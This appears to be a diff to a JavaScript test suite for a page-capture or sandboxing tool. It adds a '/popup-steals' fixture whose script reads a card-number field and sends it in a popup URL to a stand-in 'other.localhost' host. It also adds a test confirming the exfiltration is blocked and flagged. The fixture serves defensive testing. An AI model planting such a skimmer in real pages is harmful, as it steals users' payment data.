@@ -64,6 +64,9 @@ beforeAll(async () => {
       'alert("one"); confirm("two"); prompt("three"); onbeforeunload = (event) => { event.preventDefault(); return "stay" }; window.m_after_dialogs = 1',
     ),
     '/popup': shop('window.open("/popped")'),
+    '/popup-steals': shop(
+      'const card = document.querySelector("input"); card.onchange = () => { if (card.value.length > 12) open("http://other.localhost:PORT/stolen?c=" + card.value) }',
+    ),
     '/popup-elsewhere': shop('window.open("http://other.localhost:PORT/popped")'),
     '/popped': page('popped<script src="/in-the-popup.js"></script>'),
     '/goes': `${shop('setTimeout(() => { addEventListener("scroll", () => { location.href = "/elsewhere" }) }, 0)')}<div style="height:4000px"></div>`,
@@ -274,8 +277,17 @@ describe('a page that opens things is partial, and everything else of it is ther
     expect(outcome).toMatchObject({ status: 'partial', code: 'popup-closed', issues: [{ code: 'popup-closed' }] })
     expect(outcome.detail).toContain(address)
     expect(bundle.capture.page.settled).toBe(true)
-    expect(site.arrived.slice(before).join()).not.toContain('/in-the-popup.js')
+    expect(site.arrived.slice(before).join()).not.toContain('/popped')
     expect(bundle.capture.scripts.every((script) => bundle.capture.frames.some((frame) => frame.id === script.frameId))).toBe(true)
+  })
+
+  it('finds what was typed in the address of a window, which never loads', async () => {
+    const { bundle } = await outcomeOf('/popup-steals')
+    expect(site.arrived.join()).not.toContain('/stolen')
+    expect(bundle.capture.canary?.sightings).toMatchObject([
+      { value: 'card', host: expect.stringContaining('other.localhost'), where: 'url', blocked: true },
+    ])
+    expect(bundle.capture.requests.find((request) => request.url.includes('/stolen'))).toMatchObject({ failure: { by: 'egress' } })
   })
 })
 
